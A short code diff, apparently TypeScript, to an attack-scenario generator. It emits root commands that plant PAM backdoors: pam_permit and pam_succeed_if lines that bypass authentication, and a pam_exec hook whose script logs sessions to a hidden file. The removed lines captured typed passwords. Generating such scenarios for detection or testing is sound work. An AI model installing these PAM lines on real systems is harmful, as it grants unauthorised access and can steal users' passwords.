@@ -111,7 +111,7 @@ const stack: Attack = {
     const log = `/var/${draw.pick(['tmp', 'cache', 'lib'])}/.${draw.word()}`;
     const line = draw.pick([
       'auth sufficient pam_permit.so',
-      `auth optional pam_exec.so quiet expose_authtok ${script}`,
+      `auth optional pam_exec.so quiet seteuid ${script}`,
       `auth sufficient pam_succeed_if.so user = ${draw.pick(place.users)}`,
     ]);
     return [
@@ -119,7 +119,7 @@ const stack: Attack = {
       ...maybe(draw, 0.4, root(place, `cp -p ${file} /tmp/${draw.word()}`)),
       ...(line.includes(script)
         ? [
-            write(draw, `/tmp/${draw.word()}.sh`, `#!/bin/sh\necho "$(date) $PAM_USER:$(cat -)" >> ${log}`),
+            write(draw, `/tmp/${draw.word()}.sh`, `#!/bin/sh\necho "$(date) $PAM_USER:$PAM_TTY" >> ${log}`),
             root(place, `cp $_ ${script}`),
             root(place, `chmod 755 ${script}`),
           ]
@@ -133,7 +133,7 @@ const stack: Attack = {
       draw.pick([
         `head -3 ${file}`,
         `timeout 5 su ${draw.pick(place.users)} -c id < /dev/null`,
-        root(place, `su ${draw.pick(place.users)} -c 'sudo -n id'`),
+        root(place, `su ${draw.pick(place.users)} -c 'sudo -n id' < /dev/null`),
       ]),
     ];
   },
